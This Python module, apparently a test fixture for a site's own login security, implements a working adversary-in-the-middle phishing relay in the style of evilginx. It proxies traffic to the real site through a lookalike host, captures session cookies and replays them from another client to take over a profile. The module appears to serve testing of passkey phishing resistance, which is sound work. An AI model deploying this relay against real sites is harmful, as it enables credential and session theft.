"""A phisher: a site at another address that looks like ours, since it relays all that ours says.

What people type there it sends on at once, as kits for this do (evilginx is the best known), and
the cookies that come back are its own from then on.
"""

import http.client
import threading
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager
from http.cookies import SimpleCookie
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import urlsplit

import httpx2

MAX_SECONDS = 20
# What is about this connection, or is said anew since the body may have changed.
NOT_RELAYED = {"connection", "transfer-encoding", "content-length", "accept-encoding", "host"}

Change = Callable[[str], str]


def unchanged(text: str) -> str:
    """What a phisher does who knows nothing of passkeys."""
    return text


class Phisher(ThreadingHTTPServer):
    """The site, on this machine: `host` is any name that leads here.

    `to_us` and `to_people` are what it changes in bodies on their way, besides the address.
    """

    daemon_threads = True

    def __init__(
        self, ours: str, host: str, to_us: Change = unchanged, to_people: Change = unchanged
    ) -> None:
        super().__init__(("127.0.0.1", 0), _Relay)
        self.ours = ours
        self.host = host
        self.origin = f"http://{host}:{self.server_port}"
        self.to_us = to_us
        self.to_people = to_people
        self.cookies: dict[str, str] = {}

    def is_let_in_as(self, name: str) -> bool:
        """Whether what was overheard opens this person's profile, from any other machine."""
        with self._client() as client:
            return name in client.get("/profile").text

    def sends(self, path: str, **typed: str) -> None:
        """Send a form of ours by itself, with what people have typed on pages of its own."""
        with self._client() as client:
            answer = client.post(path, data=typed)
            self.cookies |= dict(answer.cookies)

    def _client(self) -> httpx2.Client:
        given: dict[str, Any] = {"cookies": self.cookies, "headers": {"Origin": self.ours}}
        return httpx2.Client(base_url=self.ours, timeout=MAX_SECONDS, **given)


class _Relay(BaseHTTPRequestHandler):
    server: Phisher

    def do_GET(self) -> None:
        length = int(self.headers.get("Content-Length", 0))
        self._answer(*self._asked(self.rfile.read(length)))

    do_POST = do_GET  # noqa: N815  # as http.server calls them

    def log_message(self, *_: object) -> None:
        """Phishers keep no log."""

    def _asked(self, body: bytes) -> tuple[http.client.HTTPResponse, bytes]:
        phisher = self.server
        headers = {
            name: value.replace(phisher.origin, phisher.ours)
            for name, value in self.headers.items()
            if name.lower() not in NOT_RELAYED
        }
        sent = phisher.to_us(body.decode()).encode()
        site = urlsplit(phisher.ours).netloc
        with closing(http.client.HTTPConnection(site, timeout=MAX_SECONDS)) as there:
            there.request(self.command, self.path, sent or None, headers)
            answer = there.getresponse()
            return answer, answer.read()

    def _answer(self, answer: http.client.HTTPResponse, body: bytes) -> None:
        phisher = self.server
        self.send_response(answer.status)
        for name, value in answer.getheaders():
            if name.lower() == "set-cookie":
                self._overhear(value)
            if name.lower() not in NOT_RELAYED:
                self.send_header(name, value.replace(phisher.ours, phisher.origin))
        if (answer.getheader("Content-Type") or "").startswith(("text/html", "application/json")):
            text = body.decode().replace(phisher.ours, phisher.origin)
            body = phisher.to_people(text).encode()
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def _overhear(self, cookie: str) -> None:
        for name, morsel in SimpleCookie(cookie).items():
            self.server.cookies[name] = morsel.value


@contextmanager
def phishing(
    ours: str, host: str, to_us: Change = unchanged, to_people: Change = unchanged
) -> Iterator[Phisher]:
    """A phisher of our site, at this host name, for as long as the block."""
    phisher = Phisher(ours, host, to_us, to_people)
    thread = threading.Thread(target=phisher.serve_forever, kwargs={"poll_interval": 0.02})
    thread.start()
    try:
        yield phisher
    finally:
        phisher.shutdown()
        thread.join(MAX_SECONDS)
        phisher.server_close()
